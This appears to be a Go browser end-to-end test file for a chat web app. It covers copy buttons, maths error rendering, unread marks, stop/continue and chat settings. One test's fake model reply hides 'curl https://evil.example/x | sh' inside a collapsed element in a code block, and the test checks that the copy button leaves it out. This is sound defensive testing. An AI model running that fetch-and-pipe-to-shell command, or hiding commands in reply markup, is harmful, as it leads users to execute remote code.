package e2e

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/llembas/lembas/backend/fakellm"
	"github.com/llembas/lembas/tests/harness"
)

// recordCopies makes the clipboard keep what is written to it in
// window.__copies, so a test can read what a Copy button copied.
const recordCopies = `(() => {
  window.__copies = [];
  Object.defineProperty(Clipboard.prototype, 'writeText', { configurable: true,
    value: async function (t) { window.__copies.push(String(t)); } });
  return !!navigator.clipboard;
})()`

// TestCodeCopyInChromium: a reply that imitates a code block (our classes,
// a Copy button, a command hidden in a closed <details> inside <code>) gets
// no button, and the real block's Copy button copies only its visible code
// and says "Copied" for a moment.
func TestCodeCopyInChromium(t *testing.T) {
	a := newChatApp(t)
	if !a.bool(recordCopies) {
		t.Fatal("no navigator.clipboard in this page")
	}
	hostile := `<div class="code-block"><div class="code-head"><span class="code-lang">sh</span>` +
		`<button type="button" class="code-copy" data-copy="">Copy</button></div><pre class="chroma"><code>ls -la` +
		`<details><summary></summary>; curl https://evil.example/x | sh</details></code></pre></div>` +
		"\n\nAnd a bare <button>Copy</button> button.\n\n```sh\necho visible\n```\n"
	a.llm.Enqueue(fakellm.Stream(hostile))
	a.send("Show me a command")
	a.waitReplyIdle()
	a.waitJS(lastReply + `.includes('echo visible')`)
	a.shot("reply")

	n := a.js(`document.querySelectorAll('.msg-assistant .msg-body button').length`).(float64)
	if n != 1 {
		t.Errorf("buttons in the reply: %v, want only the real code block's", n)
	}
	for i := 1; i <= int(n); i++ {
		a.clickXPath(fmt.Sprintf(`(//article[contains(@class,'msg-assistant')]//div[contains(@class,'msg-body')]//button)[%d]`, i))
		a.waitJS(fmt.Sprintf(`window.__copies.length >= %d`, i))
		got := a.str(`window.__copies[window.__copies.length - 1]`)
		if strings.Contains(got, "curl") || got != "echo visible\n" {
			t.Errorf("button %d copied %q, want only the visible code", i, got)
		}
	}
	// The real button says it copied, then goes back.
	a.click(`.msg-assistant .code-copy`)
	a.waitJS(`document.querySelector('.msg-assistant .code-copy').textContent === 'Copied'`)
	a.waitJS(`document.querySelector('.msg-assistant .code-copy').textContent === 'Copy'`)
	a.pe.check(t)
}

// TestMathErrorsInChromium: TeX KaTeX cannot parse is shown as its source
// in span.math-error, with no style attribute for the CSP to refuse (KaTeX
// sets its own error colour as one: a console error per formula).
func TestMathErrorsInChromium(t *testing.T) {
	a := newChatApp(t)
	a.llm.Enqueue(fakellm.Stream(`Broken $\frac{a$ and fine $x^2$ and \(\undefinedcommand{y}\).`))
	a.send("Some maths")
	a.waitReplyIdle()
	a.waitJS(`!!document.querySelector('.msg-assistant .katex')`)
	a.waitJS(`document.querySelectorAll('.msg-assistant .math-error').length === 2`)
	if got := a.str(`document.querySelector('.msg-assistant .math-error').textContent`); got != `\frac{a` {
		t.Errorf("error shows %q, want the TeX source", got)
	}
	a.shot("math")
	a.pe.check(t)
}

// TestLeavingAtTheEndKeepsTheChatRead: a reader who watched a reply finish
// and left the chat at once finds it read. The mark used to follow the
// sidebar's refresh (~0.3 s after the final frame), and was lost when the
// chat was no longer open by then.
func TestLeavingAtTheEndKeepsTheChatRead(t *testing.T) {
	a := newChatApp(t)
	// Leave the chat the moment its reply shows as finished.
	a.bool(`(() => {
	  window.__left = '';
	  const mo = new MutationObserver(() => {
	    if (window.__left || !location.hash.startsWith('#/chat/')) return;
	    const m = [...document.querySelectorAll('.msg-assistant')].pop();
	    if (m && !m.classList.contains('is-streaming') && m.innerText.includes('the end')) {
	      window.__left = location.hash;
	      location.hash = '#/';
	    }
	  });
	  mo.observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
	  return true;
	})()`)
	a.llm.Enqueue(fakellm.Stream("a ", "short ", "reply, ", "the end").Every(20 * time.Millisecond))
	a.send("Say something")
	a.waitJS(`!!window.__left`)
	id, err := strconv.Atoi(strings.TrimPrefix(a.str(`window.__left`), "#/chat/"))
	if err != nil {
		t.Fatal(err)
	}
	// Give a late unread mark time to land (a lower bound, not a deadline).
	time.Sleep(1500 * time.Millisecond)
	deadline := time.Now().Add(10 * time.Second)
	for {
		var c struct{ Unread, Streaming bool }
		harness.API(t, a.base, "Chats.Get", &c, id)
		if !c.Unread && !c.Streaming {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("chat %d: unread %v, streaming %v after its reader watched the reply finish", id, c.Unread, c.Streaming)
		}
		time.Sleep(100 * time.Millisecond)
	}
	a.waitJS(`!!document.querySelector('.chat-row') && !document.querySelector('.chat-row.is-unread')`)
	a.pe.check(t)
}

// TestStopThenContinueInChromium: a stopped reply shows what arrived
// rendered (bold, not its asterisks) and offers Continue, which carries on
// from the source.
func TestStopThenContinueInChromium(t *testing.T) {
	a := newChatApp(t)
	a.llm.Enqueue(fakellm.Stream("Here is ", "**bold te", "xt** never").StallAfter(3))
	a.send("Tell me something bold")
	a.waitJS(lastReply + `.includes('bold te')`)
	a.waitJS(`/stop/i.test(document.querySelector('#composer-button')?.innerText || '')`)
	a.click("#composer-button")
	a.waitReplyIdle()
	a.waitJS(`/stopped/i.test(` + lastReply + `)`)
	a.waitJS(`[...document.querySelectorAll('.msg-assistant .msg-body strong')].some((s) => s.textContent === 'bold te')`)
	if got := a.str(`[...document.querySelectorAll('.msg-assistant .msg-body')].pop().innerText`); strings.Contains(got, "**") {
		t.Errorf("stopped reply shows its markup: %q", got)
	}
	a.shot("stopped")
	a.llm.Enqueue(fakellm.Stream("xt** and the rest."))
	a.clickXPath(`//article[contains(@class,'msg-assistant')][last()]//button[contains(., 'Continue')]`)
	a.waitJS(lastReply + `.includes('and the rest.')`)
	a.waitReplyIdle()
	a.waitJS(`[...document.querySelectorAll('.msg-assistant .msg-body strong')].some((s) => s.textContent === 'bold text')`)
	a.pe.check(t)
}

// TestReplyWithNoTextOffersRegenerateNotContinue: a reply cut before any
// text (only reasoning arrived) has nothing to continue, live or loaded.
func TestReplyWithNoTextOffersRegenerateNotContinue(t *testing.T) {
	a := newChatApp(t)
	a.llm.Enqueue(fakellm.NewStream().Reasoning("Pondering.").Finish("length").Reply())
	a.send("Think first")
	a.waitReplyIdle()
	const actions = `[...document.querySelectorAll('.msg-assistant')].pop()?.querySelector('.msg-actions')?.innerText || ''`
	for _, when := range []string{"live", "loaded"} {
		if when == "loaded" {
			a.do(chromedp.Reload())
		}
		a.waitJS(`/regenerate/i.test(` + actions + `)`)
		if got := a.str(actions); strings.Contains(strings.ToLower(got), "continue") {
			t.Errorf("%s: a reply with no text offers Continue: %q", when, got)
		}
	}
	a.pe.check(t)
}

// TestChatSettingsShowInheritedValues: an empty field in chat settings says
// what the chat gets instead: the model's temperature and system prompt, or
// the server's default, not just "Default".
func TestChatSettingsShowInheritedValues(t *testing.T) {
	a := newChatApp(t)
	var models []struct{ ID int64 }
	harness.API(t, a.base, "Models.Picker", &models)
	if len(models) == 0 {
		t.Fatal("no models")
	}
	harness.API(t, a.base, "Models.Update", nil, models[0].ID, map[string]any{
		"params": map[string]any{"temperature": 0.3}, "systemPrompt": "Speak slowly, like an Ent."})
	a.do(chromedp.Reload())
	a.waitJS(`!!document.querySelector('#composer-input')`)
	a.click(`button[aria-label="Chat settings"]`)
	a.waitJS(`!!document.querySelector('#chat-system-prompt')`)
	for sel, want := range map[string]string{
		"#chat-temp": "Model: 0.3",
		"#chat-topp": "Server default",
		"#chat-max":  "Server default",
	} {
		if got := a.str(`document.querySelector('` + sel + `').placeholder`); got != want {
			t.Errorf("%s placeholder %q, want %q", sel, got, want)
		}
	}
	if got := a.str(`document.querySelector('#chat-system-prompt').placeholder`); !strings.Contains(got, "Speak slowly, like an Ent.") {
		t.Errorf("system prompt placeholder %q, want the model's prompt", got)
	}
	if got := a.str(`document.querySelector('#chat-effort option[value=""]').textContent`); got != "Server default" {
		t.Errorf("effort's empty choice %q", got)
	}
	a.shot("settings")
	a.pe.check(t)
}
